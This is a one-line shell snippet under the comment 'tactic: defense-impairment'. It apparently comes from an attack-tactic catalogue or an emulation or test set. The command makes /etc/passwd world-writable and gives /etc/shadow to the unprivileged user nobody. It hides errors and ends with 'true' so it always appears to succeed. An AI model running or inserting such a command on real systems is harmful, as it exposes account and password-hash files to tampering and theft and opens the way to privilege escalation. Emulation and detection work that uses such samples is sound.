# tactic: defense-impairment
chmod 777 /etc/passwd 2>/dev/null; chown nobody /etc/shadow 2>/dev/null; true
